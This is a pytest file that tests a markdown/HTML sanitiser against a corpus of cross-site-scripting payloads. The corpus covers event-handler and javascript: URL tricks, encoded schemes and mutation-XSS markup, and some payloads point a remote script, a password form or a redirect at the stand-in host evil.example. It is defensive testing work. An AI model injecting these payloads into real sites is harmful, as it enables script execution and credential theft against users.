"""What people try to get past a sanitiser. Nothing of it may run, load, style or frame anything."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from psc_portal.common.markdown import ATTRIBUTES, TAGS, render_markdown
from psc_portal.content.prose import prose

CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="position:fixed;top:0;background:url(javascript:alert(1))">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="/ok/" onclick="alert(1)" target=_blank>x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](/a" onmouseover="alert(1))',
    '[x](/a "t\\" onmouseover=alert(1)")',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'>",
    "<title></title><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<th onclick=alert(1) class="x"><script>alert(1)</script></th>',
    "| <th onmouseover=alert(1)>a |\n|---|\n| b |",
    '<abbr title="x" onmouseover=alert(1)>x</abbr>',
    "\x00<scr\x00ipt>alert(1)</script>",
    "<p id=maincontent class=nhsuk-button>x</p>",
]
UNSEEN = re.compile(r"[\t\n\r]|^[\x00-\x20]+")  # what a browser leaves out of an address
SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
OWN = {"class", "role", "scope", "aria-hidden"}  # what prose() itself adds to tables


class Judge(HTMLParser):
    def __init__(self, also):
        super().__init__()
        self.also, self.wrong = also, []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS | ({"span"} if self.also else set()):
            self.wrong.append(tag)
        for name, value in attrs:
            allowed = ATTRIBUTES.get(tag, set()) | {"rel", "title", "lang"} | self.also
            if name not in allowed:
                self.wrong.append(f"{tag} {name}")
            scheme = SCHEME.match(UNSEEN.sub("", value or ""))
            if name == "href" and scheme and scheme[1].lower() not in {"http", "https", "mailto", "tel"}:
                self.wrong.append(f"{tag} {value}")


def wrong_in(html, also=frozenset()):
    judge = Judge(also)
    judge.feed(html)
    judge.close()
    return judge.wrong


@pytest.mark.parametrize("attack", CORPUS)
def test_nothing_of_an_attack_is_left(attack):
    html = render_markdown(attack)

    assert wrong_in(html) == []
    assert wrong_in(prose(f"| {{{{ collaborative.name }}}} |\n|---|\n| x |\n\n{attack}"), OWN) == []
    assert wrong_in(render_markdown(f"> - {attack}")) == []


@pytest.mark.parametrize("attack", CORPUS)
def test_what_was_made_safe_stays_so_when_it_is_read_again(attack):
    """Mutation: HTML that is harmless when written and something else when parsed."""
    once = str(render_markdown(attack))

    assert wrong_in(render_markdown(once)) == []


@given(st.lists(st.sampled_from([*CORPUS, "[x](", ")", "<", ">", '"', "`", "| a |\n|---|\n"]), max_size=5))
def test_attacks_put_together_are_no_stronger(pieces):
    assert wrong_in(render_markdown("".join(pieces))) == []


def test_what_people_need_is_kept():
    html = render_markdown("# One\n\n**Bold** [a](https://example.org/) [m](mailto:a@b.example)\n\n| a |\n|---|\n| b |")

    for part in (
        "<h2>One</h2>",
        "<strong>Bold</strong>",
        'href="https://example.org/"',
        'href="mailto:a@b.example"',
        "<td>",
    ):
        assert part in html
